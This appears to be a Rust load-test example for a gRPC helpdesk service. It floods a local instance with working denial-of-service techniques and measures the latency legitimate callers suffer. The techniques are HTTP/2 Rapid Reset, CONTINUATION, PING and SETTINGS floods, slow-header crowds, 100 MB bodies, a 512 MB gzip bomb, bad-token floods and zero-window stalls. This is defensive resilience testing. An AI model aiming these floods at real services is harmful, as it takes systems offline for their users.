//! Attacks a running service, one way after the other, and prints how much longer good callers wait meanwhile:
//! `cargo run --release --example attacks -- HOST:PORT TOKEN`. The token needs tickets:write, messages:write and messages:read.
//!
//! The attackers are a process of their own, of the lowest priority, because they share a machine with those whom they attack; they come
//! from 127.0.0.2, so that what is limited by address is not the good callers' share. Only for services on this machine.

#[expect(dead_code, reason = "the tests use more of it")]
#[path = "../tests/support/frames.rs"]
mod frames;

use std::io::Write as _;
use std::net::SocketAddr;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use anyhow::{Context, ensure};
use clap::{Parser, ValueEnum};
use deskledger::proto::chat_message_service_client::ChatMessageServiceClient;
use deskledger::proto::ticket_service_client::TicketServiceClient;
use deskledger::proto::{
    BatchCreateChatMessagesRequest, ChatMessage, CreateTicketRequest, Customer, ListChatMessagesRequest, Ticket, UserType,
};
use frames::{CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, RST_STREAM, SETTINGS};
use frames::{frame, header, request};
use prost::Message;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, sleep_until, timeout};
use tonic::metadata::{Ascii, MetadataValue};
use tonic::transport::{Channel, Endpoint};

/// How often a good caller calls. Every tenth call is made on a new connection.
const PERIOD: Duration = Duration::from_millis(5);
/// How many connections flood at a time, and how many are a crowd.
const FLOODS: usize = 4;
const CROWD: usize = 2_000;
const LIST: &str = "/deskledger.v1.ChatMessageService/ListChatMessages";

#[derive(Parser)]
struct Arguments {
    /// Where the service listens, on this machine
    address: SocketAddr,
    /// A token that may create and list
    token: String,
    /// Seconds of each attack
    #[arg(long, default_value_t = 6)]
    seconds: u64,
    /// Only this attack
    #[arg(long)]
    only: Option<Attack>,
    /// Be the attackers, until killed
    #[arg(long, hide = true)]
    attack: Option<Attack>,
    /// The ticket that attackers ask for
    #[arg(long, hide = true, default_value_t = 0)]
    ticket: i64,
}

#[derive(Debug, Clone, Copy, ValueEnum)]
enum Attack {
    /// Calls that are taken back at once
    RapidReset,
    /// Headers that do not end
    Continuation,
    /// Pings
    Pings,
    /// Settings
    Settings,
    /// A crowd that connects and says nothing
    Silent,
    /// A crowd that sends its headers byte by byte
    SlowHeaders,
    /// Bodies of 100 MB
    LargeBodies,
    /// Messages of half a gigabyte, packed
    Bombs,
    /// Calls with tokens that there are not
    BadTokens,
    /// Pages that are asked for and not taken
    Untaken,
}

/// Good callers.
struct Good {
    address: SocketAddr,
    bearer: MetadataValue<Ascii>,
    channel: Channel,
    ticket_id: i64,
}

impl Good {
    async fn new(arguments: &Arguments) -> anyhow::Result<Self> {
        let bearer: MetadataValue<Ascii> = format!("Bearer {}", arguments.token).parse()?;
        let channel = connected(arguments.address).await?;
        let customer = Customer { sendbird_id: "attacks".to_owned(), ..Default::default() };
        let ticket = Ticket { customer: Some(customer), ..Default::default() };
        let mut create = tonic::Request::new(CreateTicketRequest { ticket: Some(ticket), ..Default::default() });
        create.metadata_mut().insert("authorization", bearer.clone());
        let created = TicketServiceClient::new(channel.clone()).create_ticket(create).await?.into_inner();
        let ticket_id = created.ticket.context("no ticket")?.id;
        let message = ChatMessage {
            user_sendbird_id: "attacks".to_owned(),
            user_type: UserType::Customer as i32,
            message: "x".repeat(1_000),
            ..Default::default()
        };
        let batch = BatchCreateChatMessagesRequest { ticket_id, chat_messages: vec![message; 200], ..Default::default() };
        let mut batch = tonic::Request::new(batch);
        batch.metadata_mut().insert("authorization", bearer.clone());
        ChatMessageServiceClient::new(channel.clone()).batch_create_chat_messages(batch).await?;
        Ok(Self { address: arguments.address, bearer, channel, ticket_id })
    }

    /// Lists 50 messages once in a while, and answers how long each took from the time that it was due.
    async fn call(&self, time: Duration) -> anyhow::Result<Vec<Duration>> {
        let begin = tokio::time::Instant::now();
        let mut calls = tokio::task::JoinSet::new();
        let mut number = 0;
        while begin.elapsed() < time {
            let due = begin + PERIOD * number;
            sleep_until(due).await;
            let (channel, bearer, address, ticket_id) = (self.channel.clone(), self.bearer.clone(), self.address, self.ticket_id);
            calls.spawn(async move {
                let channel = if number % 10 == 0 { connected(address).await? } else { channel };
                let mut list = tonic::Request::new(ListChatMessagesRequest { ticket_id, ..Default::default() });
                list.metadata_mut().insert("authorization", bearer);
                ChatMessageServiceClient::new(channel).list_chat_messages(list).await?;
                anyhow::Ok(due.elapsed())
            });
            number += 1;
        }
        calls.join_all().await.into_iter().collect()
    }
}

async fn connected(address: SocketAddr) -> anyhow::Result<Channel> {
    Ok(Endpoint::from_shared(format!("http://{address}"))?.tcp_nodelay(true).connect().await?)
}

/// Milliseconds within which 99 of 100 were done.
fn p99(mut times: Vec<Duration>) -> f64 {
    times.sort_unstable();
    times.get(times.len() * 99 / 100).map_or(f64::NAN, |time| time.as_secs_f64() * 1000.0)
}

/// A connection from the attackers' address.
async fn connect(address: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if address.ip().is_loopback() {
        socket.bind(SocketAddr::from(([127, 0, 0, 2], 0)))?;
    }
    socket.connect(address).await
}

/// Opens a connection of HTTP/2, sends a beginning and then a piece again and again, and reads what comes, until it is cut off.
async fn flood(address: SocketAddr, beginning: Vec<u8>, mut piece: impl FnMut() -> Vec<u8>) -> std::io::Result<()> {
    let (mut reader, mut writer) = connect(address).await?.into_split();
    let reading = tokio::spawn(async move {
        let mut buffer = vec![0; 64 * 1024];
        while reader.read(&mut buffer).await.is_ok_and(|bytes| bytes > 0) {}
    });
    writer.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[]), &beginning].concat()).await?;
    while !reading.is_finished() {
        writer.write_all(&piece()).await?;
        tokio::task::yield_now().await;
    }
    Ok(())
}

fn call(path: &str, token: &str) -> Vec<u8> {
    let bearer = format!("Bearer {token}");
    request("POST", path, &[("content-type", "application/grpc"), ("te", "trailers"), ("authorization", &bearer)])
}

/// The streams of a client, one after the other.
fn streams() -> impl FnMut() -> u32 {
    let mut next = 1;
    move || {
        next += 2;
        next - 2
    }
}

fn grpc(compressed: u8, message: &[u8]) -> Vec<u8> {
    let length = u32::try_from(message.len()).expect("it fits");
    [&[compressed][..], &length.to_be_bytes(), message].concat()
}

/// One round of an attack on one connection.
async fn attack(kind: Attack, address: SocketAddr, token: &str, ticket_id: i64, bomb: &[u8]) -> std::io::Result<()> {
    let list = |page_size| grpc(0, &ListChatMessagesRequest { ticket_id, page_size, ..Default::default() }.encode_to_vec());
    let mut stream = streams();
    match kind {
        Attack::RapidReset => {
            let call = call(LIST, token);
            let mut pair = move || {
                let stream = stream();
                [frame(HEADERS, END_HEADERS, stream, &call), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
            };
            flood(address, Vec::new(), move || (0..50).flat_map(|_| pair()).collect()).await
        }
        Attack::Continuation => {
            let begin = frame(HEADERS, END_STREAM, 1, &request("GET", "/docs", &[]));
            let more = frame(CONTINUATION, 0, 1, &header("x-more", &"x".repeat(1_000))).repeat(50);
            flood(address, begin, move || more.clone()).await
        }
        Attack::Pings => flood(address, Vec::new(), || frame(PING, 0, 0, b"8 bytes.").repeat(500)).await,
        Attack::Settings => flood(address, Vec::new(), || frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]).repeat(500)).await,
        Attack::Silent => connect(address).await?.read(&mut [0]).await.map(|_| ()),
        Attack::SlowHeaders => slow_headers(connect(address).await?).await,
        Attack::LargeBodies => large_body(connect(address).await?, token).await,
        Attack::Bombs => bombs(address, token, bomb).await,
        Attack::BadTokens => {
            let body = list(0);
            flood(address, Vec::new(), move || {
                let stream = stream();
                let call = call(LIST, &format!("dl_{stream:016x}_{stream:064x}"));
                [frame(HEADERS, END_HEADERS, stream, &call), frame(DATA, END_STREAM, stream, &body)].concat()
            })
            .await
        }
        Attack::Untaken => untaken(connect(address).await?, &call(LIST, token), &list(200)).await,
    }
}

async fn slow_headers(mut stream: TcpStream) -> std::io::Result<()> {
    stream.write_all(b"GET /docs HTTP/1.1\r\nHost: desk\r\nX: ").await?;
    while !matches!(timeout(Duration::from_millis(500), stream.read(&mut [0; 64])).await, Ok(Ok(0) | Err(_))) {
        stream.write_all(b"x").await?;
    }
    Ok(())
}

async fn large_body(mut stream: TcpStream, token: &str) -> std::io::Result<()> {
    let head = format!(
        "POST /platform/v1/tickets HTTP/1.1\r\nHost: desk\r\nConnection: close\r\nAuthorization: Bearer {token}\r\nContent-Length: 100000000\r\n\r\n"
    );
    stream.write_all(head.as_bytes()).await?;
    let part = vec![b' '; 64 * 1024];
    loop {
        stream.write_all(&part).await?;
    }
}

async fn bombs(address: SocketAddr, token: &str, bomb: &[u8]) -> std::io::Result<()> {
    let call = [call("/deskledger.v1.TicketService/GetTicket", token), header("grpc-encoding", "gzip")].concat();
    let mut pieces: Vec<Vec<u8>> = grpc(1, bomb).chunks(16_000).map(<[u8]>::to_vec).collect();
    let last = pieces.pop().unwrap_or_default();
    let mut stream = streams();
    flood(address, Vec::new(), move || {
        let stream = stream();
        let data = pieces.iter().flat_map(|piece| frame(DATA, 0, stream, piece));
        [frame(HEADERS, END_HEADERS, stream, &call), data.collect(), frame(DATA, END_STREAM, stream, &last)].concat()
    })
    .await
}

async fn untaken(mut connection: TcpStream, call: &[u8], body: &[u8]) -> std::io::Result<()> {
    let window = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &0_u32.to_be_bytes()].concat();
    let mut stream = streams();
    let asked = (0..100)
        .map(|_| stream())
        .flat_map(|stream| [frame(HEADERS, END_HEADERS, stream, call), frame(DATA, END_STREAM, stream, body)].concat());
    connection.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &window), &asked.collect::<Vec<u8>>()].concat()).await?;
    let mut buffer = vec![0; 64 * 1024];
    while connection.read(&mut buffer).await? > 0 {}
    Ok(())
}

/// Attacks until the process is killed. Who is cut off comes again.
async fn attack_on(kind: Attack, arguments: &Arguments) -> anyhow::Result<()> {
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gzip.write_all(&vec![0; 512 << 20])?;
    let bomb = gzip.finish()?;
    let attackers = if matches!(kind, Attack::Silent | Attack::SlowHeaders) { CROWD } else { FLOODS };
    let mut all = tokio::task::JoinSet::new();
    for _ in 0..attackers {
        let (address, token, ticket_id, bomb) = (arguments.address, arguments.token.clone(), arguments.ticket, bomb.clone());
        all.spawn(async move {
            loop {
                // However it ends.
                let _ = attack(kind, address, &token, ticket_id, &bomb).await;
                sleep(Duration::from_millis(20)).await;
            }
        });
    }
    println!("attacking");
    all.join_all().await;
    Ok(())
}

/// The attackers, killed with this value.
struct Attackers(Child);

impl Attackers {
    fn start(kind: Attack, arguments: &Arguments, ticket_id: i64) -> anyhow::Result<Self> {
        let name = kind.to_possible_value().context("it has a name")?.get_name().to_owned();
        let mut command = Command::new("nice");
        command.args(["-n", "19"]).arg(std::env::current_exe()?).args([&arguments.address.to_string(), &arguments.token]);
        command.args(["--attack", &name, "--ticket", &ticket_id.to_string()]).stdout(Stdio::piped());
        let mut child = command.spawn()?;
        let mut line = String::new();
        let stdout = child.stdout.take().context("its output")?;
        std::io::BufRead::read_line(&mut std::io::BufReader::new(stdout), &mut line)?;
        ensure!(line == "attacking\n", "the attackers did not begin");
        Ok(Self(child))
    }
}

impl Drop for Attackers {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[tokio::main(flavor = "current_thread")]
async fn main() -> anyhow::Result<()> {
    let arguments = Arguments::parse();
    ensure!(arguments.address.ip().is_loopback(), "only a service on this machine may be attacked");
    if let Some(kind) = arguments.attack {
        return attack_on(kind, &arguments).await;
    }
    let (good, time) = (Good::new(&arguments).await?, Duration::from_secs(arguments.seconds));
    good.call(Duration::from_secs(1)).await?;
    for kind in Attack::value_variants() {
        if arguments.only.is_some_and(|only| only as u8 != *kind as u8) {
            continue;
        }
        let before = p99(good.call(time).await?);
        let attackers = Attackers::start(*kind, &arguments, good.ticket_id)?;
        let begin = Instant::now();
        let during = p99(good.call(time).await.with_context(|| format!("{kind:?}: good callers are not served"))?);
        drop(attackers);
        println!(
            "{kind:?}: p99 {before:.1} ms before, {during:.1} ms during {:.0?}: {:.1} times",
            begin.elapsed(),
            during / before
        );
        sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}
